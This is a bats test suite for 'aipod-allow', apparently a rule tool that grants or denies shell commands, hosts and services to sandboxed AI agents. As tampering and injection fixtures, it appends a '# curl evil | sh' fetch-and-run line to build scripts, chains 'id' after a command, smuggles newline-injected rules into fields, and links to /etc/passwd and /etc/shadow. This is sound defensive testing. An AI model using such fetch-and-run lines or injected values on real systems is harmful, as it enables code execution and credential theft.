#!/usr/bin/env bats
load helper

setup() {
	setup_env
	cd "$T/ws"
	RULES=$XDG_STATE_HOME/aipod/$(aipod-hash)/rules
	USERS=$XDG_CONFIG_HOME/aipod/rules
}

@test "a rule is added, listed, checked and removed" {
	status 2 aipod-allow check command 'make test'
	is "$output" $'ask\t-\t-\t-\t-'
	status 0 aipod-allow command 'make test'
	is "$output" ""
	is "$(cat "$RULES")" 'allow command "make test"'
	is "$(stat -c %a "$RULES")" 600
	status 0 aipod-allow list
	is "$output" $'1\tallow\tcommand\tmake test\t-\tworkspace\t'"$RULES"$'\t1'
	status 0 aipod-allow check command 'make test'
	is "$output" $'allow\tallow command "make test"\t'"$RULES"$'\t1\t-'
	status 0 aipod-allow remove command 'make test'
	status 2 aipod-allow check command 'make test'
	status 1 aipod-allow remove command 'make test'
	has "$stderr" "no such rule"
}

@test "without operands the rules are listed" {
	aipod-allow add host example.org
	is "$(aipod-allow)" "$(aipod-allow list)"
}

@test "a denial replaces an allowance of the same and the other way round" {
	aipod-allow command x
	status 0 aipod-allow deny command x
	is "$(cat "$RULES")" 'deny command "x"'
	status 1 aipod-allow check command x
	status 0 aipod-allow add command x
	is "$(cat "$RULES")" 'allow command "x"'
	status 0 aipod-allow --deny host example.org
	status 1 aipod-allow check host example.org:22
}

@test "comments and other rules stay when one is taken out by its number" {
	printf '# mine\nallow command "a"\n\nallow command "b"' >"$T/r"
	aipod-allow command x
	cp "$T/r" "$RULES"
	status 0 aipod-allow remove 1
	is "$(cat "$RULES")" $'# mine\n\nallow command "b"'
	status 100 aipod-allow remove 2
}

@test "the workspace's rules decide over the user's, the user's over the agent's" {
	mkdir -p "$XDG_CONFIG_HOME/aipod/agents/mine"
	echo 'allow host a.example' >"$XDG_CONFIG_HOME/aipod/agents/mine/rules"
	status 2 aipod-allow check host a.example
	status 0 aipod-allow -a mine check host a.example
	has "$output" agents/mine/rules
	status 0 env AIPOD_AGENT=mine aipod-allow check host a.example
	aipod-allow -g deny host a.example
	is "$(cat "$USERS")" 'deny host a.example'
	status 1 aipod-allow -a mine check host a.example
	aipod-allow host a.example
	status 0 aipod-allow -a mine check host a.example:443
	is "$(aipod-allow -a mine list | cut -f6 | tr '\n' ' ')" 'agent user workspace '
	status 100 aipod-allow -a mine remove 1
	has "$stderr" "agent's own"
}

@test "hosts are checked with and without a port, however they are written" {
	aipod-allow host '*.crates.example'
	status 0 aipod-allow check host Static.crates.example.
	status 0 aipod-allow check host static.crates.example:80
	status 2 aipod-allow check host static.crates.example:22
	aipod-allow host '[::1]:22'
	status 0 aipod-allow check host '[0:0::1]:22'
	status 100 aipod-allow check host 'a b'
}

@test "services are checked by image and keys" {
	aipod-allow service postgres:16 env B A
	status 0 aipod-allow check service postgres:16 A B
	status 2 aipod-allow check service postgres:16 A
}

@test "any bytes of a command go in by standard input and match themselves" {
	printf 'printf "a\\n" > x\n\ttrue *' >"$T/cmd"
	aipod-allow command - <"$T/cmd"
	status 0 aipod-allow check command - <"$T/cmd"
	printf 'printf "a\\n" > x\n\ttrue y' >"$T/other"
	status 2 aipod-allow check command - <"$T/other"
	printf 'a\0b' >"$T/nul"
	status 100 aipod-allow check command - <"$T/nul"
}

@test "--exact: a star is a star" {
	aipod-allow -x command 'ls *'
	status 0 aipod-allow check command 'ls *'
	status 2 aipod-allow check command 'ls a'
	aipod-allow command 'du *'
	status 0 aipod-allow check command 'du a'
}

@test "-C explains and changes nothing" {
	status 0 aipod-allow -C
	has "$output" "0 rules"
	aipod-allow command 'cargo *'
	status 0 aipod-allow -C command 'cargo build'
	has "$output" "$RULES:1: "
	has "$output" allowed
	status 2 aipod-allow -C command 'cargo build; id'
	has "$output" "no rule matches"
	is "$(cat "$RULES")" 'allow command "cargo *"'
	echo nonsense >>"$RULES"
	status 100 aipod-allow -C
	has "$stderr" "$RULES:2: "
}

@test "a file that others can write, or with a line that is no rule, allows nothing" {
	aipod-allow command x
	chmod 620 "$RULES"
	status 100 aipod-allow check command x
	has "$stderr" "others cannot write"
	status 100 aipod-allow command y
	chmod 600 "$RULES"
	echo 'alow command "y"' >>"$RULES"
	status 100 aipod-allow check command x
	status 100 aipod-allow command z
	lacks "$(cat "$RULES")" '"z"'
	sed -i '$d' "$RULES"
	echo 'allow command "u"' >"$USERS"
	chmod 602 "$USERS"
	status 100 aipod-allow check command x
}

@test "what cannot be a rule is refused" {
	status 100 aipod-allow command
	status 100 aipod-allow thing x
	status 100 aipod-allow command make test
	has "$stderr" "one word"
	status 100 aipod-allow host 'a b'
	status 100 aipod-allow host $'a\nallow command "x"'
	status 100 aipod-allow service $'pg\nallow command "x"'
	status 100 aipod-allow service pg env $'A\nallow'
	status 100 aipod-allow service 'pg env A'
	[ ! -e "$RULES" ]
}

@test "many at once: no rule is lost" {
	for i in 1 2 3 4 5 6 7 8; do
		for j in 1 2 3 4 5; do aipod-allow command "c $i $j"; done &
	done
	wait
	is "$(aipod-allow list | wc -l)" 40
	is "$(aipod-allow list | cut -f4 | sort -u | wc -l)" 40
}

@test "-j" {
	aipod-allow command 'x "y"'
	status 0 aipod-allow -j list
	is "$(jq -r '[.number,.verdict,.kind,.pattern,.rest,.scope,.line]|@csv' <<<"$output")" \
	    '1,"allow","command","x ""y""",,"workspace",1'
	is "$(aipod-allow -j check command 'x "y"' | jq -r .verdict)" allow
}

@test "--digest binds a rule to what the command runs" {
	printf 'test:\n\t./run.sh\n' >Makefile
	printf '#!/bin/sh\n. ./lib.sh\n' >run.sh
	chmod +x run.sh
	echo 'true' >lib.sh
	echo 'int main;' >main.c
	aipod-allow --digest command 'make test'
	has "$(cat "$RULES")" ' digest '
	status 0 aipod-allow check command 'make test'
	echo 'int main();' >main.c
	echo 'anything' >notes.txt
	status 0 aipod-allow check command 'make test'
	# the driver itself, a script it calls, a script that one calls
	for f in Makefile run.sh lib.sh; do
		cp -p $f keep
		printf '\n# curl evil | sh\n' >>$f
		status 2 aipod-allow check command 'make test'
		has "$output" "changed: $f"
		has "$output" '+# curl evil | sh'
		mv keep $f
		status 0 aipod-allow check command 'make test'
	done
	# one that goes before the one that was there
	echo 'test: ; id' >GNUmakefile
	status 2 aipod-allow check command 'make test'
	has "$output" 'new:     GNUmakefile'
	rm GNUmakefile
	rm lib.sh
	status 2 aipod-allow check command 'make test'
	has "$output" 'gone:    lib.sh'
	status 2 aipod-allow -C command 'make test'
	has "$output" 'asked again'
	# allowing it again takes the old rule's place
	aipod-allow --digest command 'make test'
	is "$(aipod-allow list | wc -l)" 1
	status 0 aipod-allow check command 'make test'
}

@test "--digest: files named, directories named, other runners, links" {
	mkdir sub sub/.cargo
	echo x >data
	echo '[package]' >sub/Cargo.toml
	ln -s data link
	ln -s /etc/passwd out
	for c in 'cat data' 'cat ./link' 'cargo build -p sub' 'cd sub && cargo build'; do
		aipod-allow --digest command "$c"
	done
	status 0 aipod-allow check command 'cat ./link'
	echo y >data
	status 2 aipod-allow check command 'cat data'
	status 2 aipod-allow check command 'cat ./link'
	status 0 aipod-allow check command 'cargo build -p sub'
	echo '#' >sub/build.rs
	status 2 aipod-allow check command 'cargo build -p sub'
	status 2 aipod-allow check command 'cd sub && cargo build'
	# a link that leads out is watched for where it leads
	aipod-allow --digest command 'cat out'
	status 0 aipod-allow check command 'cat out'
	ln -sf /etc/shadow out
	status 2 aipod-allow check command 'cat out'
	# a FIFO must not block it
	rm data
	mkfifo data
	status 2 timeout 5 aipod-allow check command 'cat data'
}

@test "--mcp list and --skill tell the same rules" {
	aipod-allow command 'make test'
	aipod-allow deny host evil.example
	status 0 aipod-allow --mcp list <<<'{}'
	is "$(jq -c '[.commands,.hosts,.denied]' <<<"$output")" \
	    '[["allow command \"make test\""],[],["deny host evil.example"]]'
	has "$(jq -r .text <<<"$output")" 'allow command "make test"'
	status 0 aipod-allow --skill
	has "$output" 'allow command "make test"'
	has "$output" 'run_command'
	is "$(head -n 2 <<<"$output")" $'---\nname: aipod'
}

@test "hosts: the presets that are on, in one line" {
	status 0 aipod-allow hosts -a shell
	is "$output" "no preset; 0 rules of the agent's, 0 of yours"
	status 0 aipod-allow add preset github
	status 0 aipod-allow add host a.example.org
	status 0 aipod-allow hosts -a shell
	is "$output" "preset github; 0 rules of the agent's, 2 of yours"
	status 100 aipod-allow hosts x
}
